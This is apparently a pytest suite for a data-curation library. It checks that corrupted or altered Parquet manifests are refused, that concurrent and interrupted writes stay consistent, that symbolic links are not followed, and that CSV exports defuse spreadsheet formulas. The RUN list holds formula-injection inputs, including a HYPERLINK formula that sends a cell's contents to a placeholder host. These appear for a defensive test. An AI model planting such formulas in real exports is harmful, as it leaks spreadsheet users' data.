"""Manifests that are damaged, changed, written twice at once or to a full disk: refused, or what they were."""

import os
import re
import time

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from lightning_mimic import WithIds
from lightning_mimic.curation import CurationError, Manifest, compare, curate, select
from lightning_mimic.curation.comparison import Comparison
from lightning_mimic.curation.plots import plot_quality
from lightning_mimic.errors import MimicError
from lightning_mimic.manifest import EXPORTS, Export, KeptIds, kept_subset
from lightning_mimic.user_files import SEALED
from support.cases import case, for_each
from support.ledgers import write_scores

IDS = [f"{k * 7919:032x}" for k in range(60)]


def curated(folder, name="a", shift=0):
    write_scores(folder / f"scores {name}", [1.0 if (k + shift) % 3 else -1.0 for k in range(60)], ids=IDS, label=1,
                 predicted=2)  # fmt: skip
    return curate(folder / f"scores {name}", None, folder / name).manifest.path


def selection(path):
    out = path.parent / "out.parquet"
    out.unlink(missing_ok=True)
    return select(str(path), out).table().to_pylist()


def exported(name):
    def read(path):
        getattr(Manifest(path), f"to_{name}")(path.parent / "out")
        return (path.parent / "out").read_bytes()

    return read


def kept(path):
    ids = KeptIds(path)
    return [ids.times(each) for each in IDS]


QUICK = {
    "provenance": lambda path: Manifest(path).provenance,
    "table": lambda path: Manifest(path).table().to_pylist(),
    "subset": lambda path: kept_subset(WithIds(range(60), IDS), path).indices,
    "kept ids": kept,
    "compare": lambda path: compare({"a": Manifest(path)}),
}
SLOW = {"select": selection, **{name: exported(name) for name in ("csv", "datacomp", "cleanlab")}}


def changed(draw, content, other):
    """A file after an accident, and its kind."""
    footer = len(content) - 8 - int.from_bytes(content[-8:-4], "little")
    at, size = int(draw.integers(len(content))), int(draw.integers(1, 64))
    kind = str(draw.choice(["bit", "footer", "bytes", "cut", "gap", "more", "zeros", "splice", "tail"]))
    new = bytearray(content)
    if kind in ("bit", "footer"):
        new[at if kind == "bit" else int(draw.integers(footer - 80, len(new)))] ^= 1 << int(draw.integers(8))
    elif kind == "bytes":
        for place in draw.integers(len(new), size=size).tolist():
            new[place] = int(draw.integers(256))
    elif kind == "zeros":
        new[at : at + size] = bytes(len(new[at : at + size]))
    else:
        ends = {"cut": b"", "gap": content[at + size :], "more": bytes(size) + content[at:], "splice": other[at:]}
        new = bytearray(content[:at] + ends[kind]) if kind in ends else bytearray(content + bytes(size))
    return kind, bytes(new)


@pytest.mark.slow
def test_a_damaged_manifest_is_refused_by_its_name_whatever_reads_it(run_seed, tmp_path):
    path = curated(tmp_path)
    content, other = path.read_bytes(), curated(tmp_path, "b", 1).read_bytes()
    right = {name: read(path) for name, read in (QUICK | SLOW).items()}
    draw, refused = np.random.default_rng(run_seed), list[str]()
    for number in range(300):
        kind, damaged = changed(draw, content, other)
        path.write_bytes(damaged)
        for name, read in (QUICK | SLOW if number % 20 == 0 else QUICK).items():
            with case(number, kind, name):
                try:
                    found = read(path)
                except MimicError as error:
                    refused.append(str(error))
                else:
                    assert found == right[name]
    assert len(refused) > 1000
    assert all(message.startswith(f"{path} ") and "\n" not in message for message in refused)


def rewritten(path, change):
    table = pq.read_table(path)
    metadata, table = change(dict(table.schema.metadata), table)
    pq.write_table(table.replace_schema_metadata(metadata), path, write_page_checksum=True)


@for_each(
    "change",
    [
        lambda metadata, table: (metadata, table),
        lambda metadata, table: (metadata | {b"lightning_mimic": b'{"kept": 5}'}, table),
        lambda metadata, table: (metadata, table.slice(1)),
        lambda metadata, table: (metadata, table.set_column(1, "keep", pa.array([True] * 60))),
    ],
)
def test_a_manifest_that_another_program_changed_is_told_from_the_original(change, tmp_path):
    path = curated(tmp_path)
    rewritten(path, change)
    message = "it was changed after it was written, as its checksum is gone."
    for read in (*QUICK.values(), selection):
        with pytest.raises(CurationError, match=f"^{re.escape(str(path))} (is no manifest|cannot be read): {message}$"):
            read(path)


def test_manifests_without_a_checksum_are_read(tmp_path):
    """Those of earlier releases, and those that other programs make of a manifest's table."""
    path = curated(tmp_path)
    right, said = Manifest(path).table(), Manifest(path).provenance
    rewritten(path, lambda metadata, table: ({key: metadata[key] for key in metadata if key != SEALED}, table))
    assert (Manifest(path).table(), Manifest(path).provenance) == (right, said)
    pq.write_table(Manifest(path).table().slice(2), tmp_path / "b.parquet")
    assert Manifest(tmp_path / "b.parquet").table() == right.slice(2)
    assert Manifest(tmp_path / "b.parquet").provenance == {}


def test_a_sealed_manifest_is_parquet_for_everyone(tmp_path):
    path = curated(tmp_path)
    table = Manifest(path).table()
    assert pq.read_table(path, page_checksum_verification=True).replace_schema_metadata(None) == table
    duckdb = pytest.importorskip("duckdb")
    assert duckdb.sql(f"SELECT id, keep FROM '{path}'").fetchall() == [
        (row["id"], row["keep"]) for row in table.to_pylist()
    ]


@for_each(
    ("provenance", "said"),
    [
        (b"{", "is no manifest: Expecting property name"),
        (b"\xff", "is no manifest: 'utf-8' codec"),
        (b"[1]", "is no manifest: its provenance is [1]."),
        (b'{"share_kept": "x", "samples": 3, "kept": 1}', "'share_kept' in its provenance is 'x'; expected a number."),
        (b'{"share_kept": 0.5, "samples": 3, "kept": 7}', "its provenance has 7 kept of 3 samples."),
        (b'{"share_kept": 0.5, "samples": null, "kept": 7}', "its provenance has 7 kept of 0 samples."),
        (b'{"share_kept": 0.5, "samples": 3, "kept": 1, "quality": [1]}', "its provenance is damaged: [1], {}."),
        (b'{"share_kept": 0.5, "samples": 3, "kept": 1, "quality": {"low": []}}', "'low' in its provenance is [];"),
    ],
)
def test_a_provenance_that_is_something_else_is_refused(provenance, said, tmp_path):
    path = tmp_path / "a.parquet"
    table = pa.table({"id": [1], "keep": [True]}).replace_schema_metadata({"lightning_mimic": provenance})
    pq.write_table(table, path)
    with pytest.raises(CurationError, match=f"^{re.escape(str(path))}:? {re.escape(said)}"):
        compare({"a": Manifest(path)})


def scores_table(path, n=3):
    pq.write_table(pa.table({"id": list(range(n)), "x": [float(k) for k in range(n)]}), path)
    return path


def full(*_):
    raise OSError(28, "No space left on device")


def test_a_selection_appears_with_its_exports_or_not_at_all(tmp_path, monkeypatch):
    source, out = scores_table(tmp_path / "a.parquet"), tmp_path / "new" / "s.parquet"
    (tmp_path / "new").mkdir()
    (tmp_path / "new" / "s.manifest.csv").write_text("of an earlier selection")
    before = sorted(os.listdir(tmp_path))
    for at, broken in (
        ("csv", Export("manifest.csv", full, lambda database, table: None)),
        ("cleanlab", Export("label_issues.csv", full, lambda database, table: None)),
    ):
        with monkeypatch.context() as patch, case(at):
            patch.setitem(EXPORTS, at, broken)
            with pytest.raises(CurationError, match=f"^{re.escape(str(out))} was not written: No space left on device"):
                select(f"{source}:x top 1", out, exports=["csv", at])
        assert os.listdir(out.parent) == ["s.manifest.csv"]
        assert (out.parent / "s.manifest.csv").read_text() == "of an earlier selection"
    assert sorted(os.listdir(tmp_path)) == before
    seen = []
    replace, link = os.replace, os.link
    monkeypatch.setattr(os, "replace", lambda one, other: (replace(one, other), seen.append(os.path.basename(other))))
    monkeypatch.setattr(os, "link", lambda one, other: (link(one, other), seen.append(os.path.basename(other))))
    select(f"{source}:x top 1", out, exports=["csv"])
    assert seen == ["s.manifest.csv", "s.parquet"]  # a killed process leaves no manifest without its exports
    assert (out.parent / "s.manifest.csv").read_text().splitlines()[0] == "id,keep,reason"


def forked(work):
    process = os.fork()
    if process:
        return process
    try:
        work()
        os._exit(0)
    except CurationError as error:
        os._exit(3 if "is there already; name another" in str(error) else 4)
    except BaseException:
        os._exit(5)


@pytest.mark.slow
def test_of_two_at_once_one_writes_and_the_other_says_so(run_seed, tmp_path):
    source, draw = scores_table(tmp_path / "a.parquet", 3000), np.random.default_rng(run_seed)
    write_scores(tmp_path / "scores", np.arange(500.0) - 100)
    for number in range(4):
        out, folder = tmp_path / f"{number}.parquet", tmp_path / f"c{number}"

        def both(most, delay, out=out, folder=folder):
            time.sleep(delay)
            select(f"{source}:x top {most}", out, exports=["csv"])
            curate(tmp_path / "scores", None, folder, exports=["csv"])

        delays = draw.random(2) / 20
        processes = [forked(lambda m=most, d=delay: both(m, d)) for most, delay in zip((7, 2000), delays, strict=True)]
        ends = sorted(os.waitstatus_to_exitcode(os.waitpid(process, 0)[1]) for process in processes)
        assert ends == [0, 3]
        made = Manifest(out)
        rows = (tmp_path / f"{number}.manifest.csv").read_text().splitlines()
        listed = sum(",true," in row for row in rows)
        assert listed == made.provenance["kept"] == sum(made.table()["keep"].to_pylist())
    assert [name for name in os.listdir(tmp_path) if name.startswith(".")] == []


def test_nothing_is_written_through_a_link(tmp_path):
    source = scores_table(tmp_path / "a.parquet")
    write_scores(tmp_path / "scores", [1.0, -1.0])
    (tmp_path / "mine").mkdir()
    (tmp_path / "file").write_text("mine")
    made = select(f"{source}:x top 1", tmp_path / "s.parquet")
    for name in ("link.parquet", "link.manifest.csv", "link.png"):
        (tmp_path / name).symlink_to(tmp_path / "file")
    (tmp_path / "link").symlink_to(tmp_path / "mine")
    (tmp_path / "dangling.parquet").symlink_to(tmp_path / "nothing")
    (tmp_path / "other.manifest.csv").symlink_to(tmp_path / "file")
    for write in (
        lambda: select(f"{source}:x top 1", tmp_path / "link.parquet"),
        lambda: select(f"{source}:x top 1", tmp_path / "dangling.parquet"),
        lambda: select(f"{source}:x top 1", tmp_path / "other.parquet", exports=["csv"]),
        lambda: curate(tmp_path / "scores", None, tmp_path / "link"),
        lambda: made.to_csv(tmp_path / "link.manifest.csv"),
        lambda: plot_quality(tmp_path / "link.png", Comparison((), None, None)),
    ):
        with pytest.raises(CurationError, match=r"symbolic link|is there already"):
            write()
    assert (tmp_path / "file").read_text() == "mine"
    assert os.listdir(tmp_path / "mine") == []
    assert not (tmp_path / "nothing").exists()
    assert not (tmp_path / "other.parquet").exists()


RUN = ['=HYPERLINK("http://x/?"&A1)', "+1", "-1", "@SUM(1)", "\tx", "\rx", "'=1", "''-1", "'a", "a=1", "a'", "=1,\n2"]


def test_no_cell_is_run_by_a_spreadsheet_and_reading_gives_the_text_back(tmp_path):
    write_scores(tmp_path / "scores", [-1.0 - k for k in range(len(RUN))], ids=RUN, label=-1, predicted=-2)
    made = curate(tmp_path / "scores", None, tmp_path / "out", exports=["csv", "cleanlab"]).manifest
    text = (tmp_path / "out" / "manifest.csv").read_bytes().decode()
    assert not re.search(r'(^|,)"?[=+@\t\r]', text, re.MULTILINE)
    assert not re.search(r'^"?-', text, re.MULTILINE)
    assert "'+1,false,-2.0," in text  # numbers stay numbers
    assert "'+1,true," in (tmp_path / "out" / "label_issues.csv").read_bytes().decode()
    assert ",-1,-2\n" in (tmp_path / "out" / "label_issues.csv").read_bytes().decode()
    back = select(str(tmp_path / "out" / "manifest.csv"), tmp_path / "b.parquet").table()["id"].to_pylist()
    assert sorted(back) == sorted(RUN)
    done = curate(tmp_path / "scores", pool=tmp_path / "out" / "label_issues.csv")
    assert done.manifest.table()["id"].to_pylist() == made.table()["id"].to_pylist()


def test_what_a_killed_run_left_in_the_temporary_folder_goes_with_the_next(tmp_path, monkeypatch):
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    write_scores(tmp_path / "scores", [1.0, -1.0])

    def killed():
        curate(tmp_path / "scores", progress=lambda what, share: os.kill(os.getpid(), 9) if what == "writing" else None)

    assert os.waitstatus_to_exitcode(os.waitpid(forked(killed), 0)[1]) == -9
    assert len(os.listdir(tmp_path)) > 1
    curate(tmp_path / "scores", None, tmp_path / "out")
    done = curate(tmp_path / "scores")
    assert sorted(os.listdir(tmp_path)) == sorted(["out", "scores", done.files[0].parent.name])
